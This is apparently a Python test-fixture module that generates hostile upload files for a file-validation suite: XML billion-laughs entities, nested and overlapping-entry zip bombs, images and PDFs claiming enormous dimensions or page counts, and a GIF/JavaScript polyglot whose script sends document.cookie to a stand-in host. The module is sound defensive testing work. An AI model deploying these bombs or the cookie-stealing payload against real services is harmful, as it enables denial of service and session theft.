"""Files made to hurt: small on the way in, immense once opened, or something other than what they say."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.papers import archive, pdf, picture, written_pdf, xlsx

MEGABYTE = 1024 * 1024
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData>{}</worksheet>'
TEXT = '<c r="{}{}" t="inlineStr"><is><t>{}</t></is></c>'


def workbook(
    rows: str = "", after: str = "", *, prolog: str = "", strings: bytes = b"", sheets: int = 1
) -> bytes:
    """A workbook that openpyxl reads, its sheets written by hand."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    numbers = range(1, sheets + 1)
    names = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="rId{n}"/>' for n in numbers)
    ties = "".join(
        f'<Relationship Id="rId{n}" Type="{office}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in numbers
    )
    parts = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for n in numbers
    )
    if strings:
        parts += (
            '<Override PartName="/xl/sharedStrings.xml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    book = (
        '<Override PartName="/xl/workbook.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    )
    members = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types">{book}{parts}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1"'
        f' Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">{ties}</Relationships>',
    } | {f"xl/worksheets/sheet{n}.xml": prolog + SHEET.format(rows, after) for n in numbers}
    packed = {name: said.encode() for name, said in members.items()}
    return archive(packed | ({"xl/sharedStrings.xml": strings} if strings else {}))


def row(number: int, *cells: tuple[str, str]) -> str:
    """A line: (column, text)…"""
    return (
        f'<row r="{number}">'
        + "".join(TEXT.format(column, number, text) for column, text in cells)
        + "</row>"
    )


HEADINGS = row(1, ("A", "Nom"), ("B", "Prénom"))
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ha ha ha ha ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(7))
    + "]>"
)


def png_of(width: int, height: int, *, real: bool = False) -> bytes:
    """A PNG of that many pixels; `real`: they are all there, black, and weigh almost nothing."""

    def chunk(name: bytes, said: bytes) -> bytes:
        return struct.pack(">I", len(said)) + name + said + struct.pack(">I", zlib.crc32(name + said))

    squeezed = zlib.compressobj(9)
    line = b"\0" * (1 + 3 * width)
    pixels = b"".join(squeezed.compress(line) for _ in range(height if real else 1)) + squeezed.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def webp_of(width: int, height: int) -> bytes:
    """A lossless WebP that says it has that many pixels (16,384 a side at most)."""
    bits = (width - 1) | (height - 1) << 14
    body = b"VP8L" + struct.pack("<I", 10) + b"\x2f" + struct.pack("<I", bits) + b"\0" * 5
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def jpeg_of(width: int, height: int) -> bytes:
    """A small JPEG that says it has that many pixels."""
    content = picture()
    at = content.index(b"\xff\xc0")
    return content[: at + 5] + struct.pack(">HH", height, width) + content[at + 9 :]


def tiff() -> bytes:
    """A TIFF that says it has two thousand million pixels."""
    tags = [(256, 4, 1, 50_000), (257, 4, 1, 50_000), (258, 3, 1, 1), (259, 3, 1, 1), (262, 3, 1, 1)]
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + b"\0" * 4


def nested(depth: int = 6) -> bytes:
    """A zip in a zip in a zip…, each ten times."""
    inside = archive({"0.txt": b"\0" * MEGABYTE})
    for _ in range(depth):
        inside = archive({f"{n}.zip": inside for n in range(10)})
    return inside


def overlapping(times: int = 3000) -> bytes:
    """One compressed member that a directory names thousands of times: small, and immense once opened."""
    content = bytearray(xlsx(**{"xl/a.xml": b"\0" * 200_000}))
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        start = packed.start_dir
    directory = bytes(content[start:])
    end = directory.rindex(b"PK\x05\x06")
    entries, at = [], 0
    while directory[at : at + 4] == b"PK\x01\x02":
        name, extra, comment = struct.unpack("<HHH", directory[at + 28 : at + 34])
        size = 46 + name + extra + comment
        entries.append(directory[at : at + size])
        at += size
    many = b"".join(entries) + entries[-1] * times
    count = len(entries) + times
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(many), start, 0)
    assert end
    return bytes(content[:start]) + many + tail


def pdf_of_pages(count: int) -> bytes:
    """A PDF whose one page is named thousands of times."""
    content = written_pdf().replace(
        b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * count + b"] /Count %d" % count
    )
    return content


def pdf_of_size(width: str, height: str) -> bytes:
    """A PDF whose page has that size."""
    return written_pdf().replace(b"[0 0 200 200]", f"[0 0 {width} {height}]".encode())


POLYGLOT = b"GIF89a/*" + b"\0" * 32 + b"*/=1;fetch('//ailleurs.test/'+document.cookie)//"
PDF_AND_ZIP = pdf() + archive({"a.txt": b"a"})
